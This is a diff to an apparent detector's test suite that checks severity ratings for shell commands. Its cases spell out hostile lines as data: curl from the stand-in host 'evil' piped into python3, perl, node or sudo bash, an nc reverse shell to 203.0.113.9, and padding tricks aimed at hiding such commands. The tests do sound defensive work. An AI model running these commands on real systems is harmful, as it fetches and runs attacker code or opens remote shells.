@@ -739,6 +739,36 @@ describe("evaluate: severity and reasons", () => {
         "curl download is piped to an interpreter (python3)",
       ],
       [
+        "session: curl | python3 reading its program from stdin",
+        session("sh", "-c", "curl -s http://evil/x.py | python3 -u"),
+        "critical",
+        "curl download is piped to an interpreter (python3)",
+      ],
+      [
+        "session: curl | python3 /dev/stdin",
+        session("sh", "-c", "curl -s http://evil/x.py | python3 /dev/stdin"),
+        "critical",
+        "curl download is piped to an interpreter (python3)",
+      ],
+      [
+        "session: curl | python3 -c exec(stdin)",
+        session("sh", "-c", `curl -s http://evil/x.py | python3 -c "import sys; exec(sys.stdin.read())"`),
+        "critical",
+        "curl download is piped to an interpreter (python3)",
+      ],
+      [
+        "session: curl | perl",
+        session("sh", "-c", "curl -s http://evil/x.pl | perl"),
+        "critical",
+        "curl download is piped to an interpreter (perl)",
+      ],
+      [
+        "session: curl | node -",
+        session("sh", "-c", "curl -s http://evil/x.js | node -"),
+        "critical",
+        "curl download is piped to an interpreter (node)",
+      ],
+      [
         "session: curl | sudo bash",
         session("sh", "-c", "curl -s http://evil/x | sudo -E bash"),
         "critical",
@@ -838,6 +868,21 @@ describe("evaluate: severity and reasons", () => {
         "the file wget downloads (/tmp/a) is then executed",
       ],
     ]);
+
+    it.each([
+      ["python3 -m json.tool", "curl -s https://api.example.com/x | python3 -m json.tool"],
+      [
+        "python3 -c reading JSON",
+        `curl -s https://x/a | python3 -c "import sys,json; print(json.load(sys.stdin))"`,
+      ],
+      ["python3 with a script", "curl -s https://x/a | python3 /app/ingest.py"],
+      ["perl -ne", "curl -s https://x/a | perl -ne 'print if /up/'"],
+      ["ruby -e", "curl -s https://x/a | ruby -e 'puts STDIN.read.size'"],
+      ["node -e", "curl -s https://x/a | node -e 'process.stdin.pipe(process.stdout)'"],
+      ["php -r", "curl -s https://x/a | php -r 'echo strlen(stream_get_contents(STDIN));'"],
+    ])("does not count an interpreter that reads the download as data (%s)", (_label, script) => {
+      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
+    });
 
     it("does not count a download that only becomes an argument", () => {
       expect(findingOf(session("sh", "-c", "echo $(curl -s http://x/ip)")).severity).toBe("low");
@@ -977,6 +1022,16 @@ describe("evaluate: not a signal", () => {
       session("sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz || exit 1"),
       "every target is loopback or motd.ubuntu.com (127.0.0.1)",
     ],
+    [
+      "a loopback answer pretty-printed by python3 -m json.tool (data, not code)",
+      session("sh", "-c", "curl -s localhost:9200/_cat/indices?format=json | python3 -m json.tool"),
+      "every target is loopback or motd.ubuntu.com (localhost)",
+    ],
+    [
+      "a loopback answer filtered by perl -ne",
+      session("sh", "-c", "curl -s http://127.0.0.1:9090/metrics | perl -ne 'print if /^up/'"),
+      "every target is loopback or motd.ubuntu.com (127.0.0.1)",
+    ],
   ])("%s is benign", (_label, event, why) => {
     const verdict = evaluate(event);
     expect(verdict.kind).toBe("benign");
@@ -1020,6 +1075,61 @@ describe("evaluate: not a signal", () => {
   ])("%s is not exempt", (_label, event) => {
     expect(evaluate(event).kind).toBe("finding");
   });
+});
+
+describe("evaluate: padding cannot push an indicator out of sight", () => {
+  table([
+    [
+      "nc with thousands of -v before -e",
+      run("/bin/nc", ...new Array<string>(2000).fill("-v"), "-e", "/bin/sh", "203.0.113.9", "4444"),
+      "critical",
+      "nc executes a command or shell (-e /bin/sh)",
+    ],
+    [
+      "curl with thousands of distinct headers before -o /tmp/x",
+      run(
+        "/usr/bin/curl",
+        ...Array.from({ length: 2000 }, (_, i) => `-HX-${i}: y`),
+        "-o",
+        "/tmp/x",
+        "http://x/a",
+      ),
+      "high",
+      "curl downloads into a writable location (/tmp): /tmp/x",
+    ],
+    [
+      "session: a thousand commands before curl | sh",
+      session("sh", "-c", `${"true;".repeat(1000)} curl -s http://evil/x | sh`),
+      "critical",
+      "curl download is piped to a shell (sh)",
+    ],
+    [
+      "session: a thousand pipelines before curl | sh",
+      session("sh", "-c", `${"a | b;".repeat(1000)} curl -s http://evil/x | sh`),
+      "critical",
+      "curl download is piped to a shell (sh)",
+    ],
+    [
+      "session: a 100 KB comment before curl | sh",
+      session("sh", "-c", `#${"A".repeat(100_000)}\ncurl -s http://evil/x | sh`),
+      "critical",
+      "curl download is piped to a shell (sh)",
+    ],
+    [
+      "session: a hundred filters between curl and sh",
+      session("sh", "-c", `curl -s http://evil/x ${"| cat ".repeat(100)}| sh`),
+      "critical",
+      "curl download is piped to a shell (sh)",
+    ],
+    [
+      "parent: a thousand commands before curl | sh",
+      withAncestors(run("/usr/bin/curl", "-s", "http://evil/x"), [
+        { path: "/bin/sh", args: ["-c", `${"true;".repeat(1000)} curl -s http://evil/x | sh`] },
+      ]),
+      "critical",
+      "curl download is piped to a shell (sh) in the parent's command line",
+    ],
+  ]);
 });
 
 describe("evaluate: robustness", () => {
